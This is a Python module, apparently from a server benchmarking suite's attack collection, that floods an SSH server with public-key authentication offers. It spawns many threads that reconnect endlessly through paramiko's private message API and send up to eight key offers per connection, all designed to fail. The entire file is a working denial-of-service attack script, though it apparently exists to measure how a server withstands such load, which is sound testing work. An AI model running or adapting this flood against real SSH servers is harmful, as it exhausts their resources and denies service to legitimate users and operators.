"""
Offers of keys for a user with many keys: by paramiko, because this needs ciphers.
"""

from __future__ import annotations

import contextlib
import logging
import socket
import threading
from collections.abc import Callable
from typing import Any

from benchmarks.attacks._done import Done
from benchmarks.attacks._floods import MANY, publicKey

#: Keys that one connection offers at most, before it is ended.
OFFERS = 8

#: Seconds to wait for anything.
PATIENCE = 20.0

SERVICE_REQUEST = bytes([5])
USERAUTH_REQUEST = bytes([50])
SERVICE_ACCEPT = 6
USERAUTH_FAILURE = 51


class Answers:
    """
    What paramiko calls with the messages of a login: that of a handler of its own, which
    would not go on after an answer.
    """

    def __init__(self, go: Callable[[], object]) -> None:
        self._handler_table = {
            SERVICE_ACCEPT: lambda _: go(),
            USERAUTH_FAILURE: lambda _: go(),
        }

    def is_authenticated(self) -> bool:
        """
        Return false: a login never succeeds.
        """
        return False

    def abort(self) -> None:
        """
        Handle the end of the connection.
        """


def offer(done: Done, host: str, port: str, user: str) -> None:
    """
    Offer keys for ever, in threads.
    """
    import paramiko  # noqa: PLC0415 - only this attack needs it

    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    blob = publicKey()

    def again() -> None:
        while True:
            with contextlib.suppress(paramiko.SSHException, OSError, EOFError):
                _connection(paramiko, done, (host, int(port)), user, blob)
            done.happened("connections")

    for _ in range(MANY):
        threading.Thread(target=again, daemon=True).start()


def _connection(
    paramiko: Any, done: Done, address: tuple[str, int], user: str, blob: bytes
) -> None:
    sock = socket.create_connection(address, PATIENCE)
    transport = paramiko.Transport(sock)
    send = transport._send_message  # noqa: SLF001 - it has no public way to send just this
    over = threading.Event()
    left = [OFFERS]

    def go() -> None:
        if not left[0]:
            over.set()
            return
        left[0] -= 1
        message = paramiko.Message()
        message.add_byte(USERAUTH_REQUEST)
        for text in (user, "ssh-connection", "publickey"):
            message.add_string(text)
        message.add_boolean(False)
        message.add_string("ssh-ed25519")
        message.add_string(blob)
        send(message)
        done.happened("offers")

    try:
        transport.start_client(timeout=PATIENCE)
        transport.auth_handler = Answers(go)
        request = paramiko.Message()
        request.add_byte(SERVICE_REQUEST)
        request.add_string("ssh-userauth")
        send(request)
        while transport.is_active() and not over.wait(0.05):
            pass
    finally:
        transport.close()
